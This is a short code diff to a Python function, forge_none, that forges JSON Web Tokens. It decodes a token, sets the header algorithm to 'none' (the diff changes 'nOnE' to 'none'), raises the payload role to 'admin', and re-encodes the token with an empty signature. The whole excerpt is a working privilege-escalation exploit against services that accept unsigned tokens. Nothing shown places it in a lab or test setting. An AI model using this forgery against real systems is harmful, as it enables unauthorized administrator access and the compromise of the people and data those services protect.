@@ -15,6 +15,6 @@ def encode(value):
 def forge_none(token: str) -> str:
     header, payload, _ = token.split(".")
     header, payload = decode(header), decode(payload)
-    header["alg"] = "nOnE"
+    header["alg"] = "none"
     payload["role"] = "admin"
     return ".".join([encode(header), encode(payload), ""])
